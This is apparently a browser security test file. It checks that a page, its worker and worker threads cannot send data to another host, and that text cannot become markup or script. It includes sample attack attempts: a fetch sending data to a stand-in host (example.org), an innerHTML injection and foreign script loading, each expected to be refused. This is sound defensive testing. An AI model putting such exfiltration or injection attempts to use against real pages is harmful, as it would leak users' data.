// The page's policy holds in the page, in its worker and in the worker's threads: no other machine is asked for anything.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { PATIENCE, startSite } from "./harness.mjs";
import { reads } from "./user.mjs";

/** @type {import("./harness.mjs").Site} */
let site;
before(async () => {
  site = await startSite();
});
after(() => site.close());

/** What a script that wants to send data away would do. */
const send = () =>
  fetch("https://example.org/?data").then(
    () => "sent",
    () => "refused",
  );

/**
 * The same in a thread as the engine's worker starts them: it is told to load its module from elsewhere.
 *
 * @param {string} origin
 * @returns {Promise<string>} Why it could not.
 */
async function sendFromThread(origin) {
  const { startThread } = await import(`${origin}pool.js`);
  const thread = startThread();
  thread.postMessage({ script: "https://example.org/?data" });
  return new Promise((resolve) =>
    thread.addEventListener("message", (/** @type {any} */ { data }) => resolve(data.failed)),
  );
}

test("neither the page nor its worker nor a thread can send data away", { timeout: PATIENCE }, async () => {
  const { page, errors, close } = await site.open({ device: "cpu" });
  await reads(page, "#device-sentence", /thread/);
  const [worker] = page.workers();
  assert.equal(await page.evaluate(send), "refused");
  assert.equal(await worker.evaluate(send), "refused");
  assert.match(await worker.evaluate(sendFromThread, site.origin), /example\.org/);
  // The proxy refuses, too; the policy is what keeps it from being asked at all.
  assert.deepEqual(site.asked, []);
  const refused = errors.filter((line) => line.includes("Content Security Policy"));
  assert.ok(refused.length >= 2, errors.join("\n"));
  // A page without a policy does reach the proxy: what it remembers is worth asking for.
  const bare = await page.context().newPage();
  assert.equal(await bare.evaluate(send), "refused");
  assert.match(site.asked.join(" "), /example\.org/);
  await close();
});

/** What text that was taken for markup, or an address that was taken for a script, would need. */
const inject = () =>
  [
    () => (document.body.innerHTML = "<img src=x>"),
    () => new Worker(URL.createObjectURL(new Blob(["0"]))),
    () => document.createElement("script").setAttribute("src", "./main.js"),
  ].map((attempt) => {
    try {
      attempt();
      return "done";
    } catch (thrown) {
      return thrown instanceof Error ? thrown.name : String(thrown);
    }
  });

test("no text becomes markup or script but through the page's one door", { timeout: PATIENCE }, async () => {
  const { page, close } = await site.open({ device: "cpu" });
  await reads(page, "#device-sentence", /thread/);
  assert.deepEqual(await page.evaluate(inject), ["TypeError", "TypeError", "TypeError"]);
  const through = await page.evaluate(async (origin) => {
    const { scriptAddress } = await import(`${origin}trusted.js`);
    return [`${origin}worker.js`, "https://example.org/worker.js"].map((address) => {
      try {
        return String(scriptAddress(address)) === address;
      } catch {
        return "refused";
      }
    });
  }, site.origin);
  assert.deepEqual(through, [true, "refused"]);
  await close();
});
